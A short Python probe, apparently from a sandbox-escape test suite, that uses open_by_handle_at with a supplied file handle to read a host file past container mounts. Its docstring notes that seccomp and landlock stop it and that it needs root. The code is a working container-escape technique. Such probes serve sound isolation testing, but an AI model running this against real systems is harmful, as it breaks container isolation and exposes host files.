"""Opens a file of the host's by its number, past every mount that hides it.

decoy: handle
stopped by: seccomp, landlock
as root: capabilities, user
needs: root
"""
value = bytes.fromhex(FACTS["handle"])
handle = ctypes.create_string_buffer(struct.pack("Ii", len(value), FACTS["kind"]) + value)
here = os.open(".", os.O_RDONLY)
opened = check(libc.open_by_handle_at(here, handle, os.O_RDONLY))
show(os.read(opened, 1000))
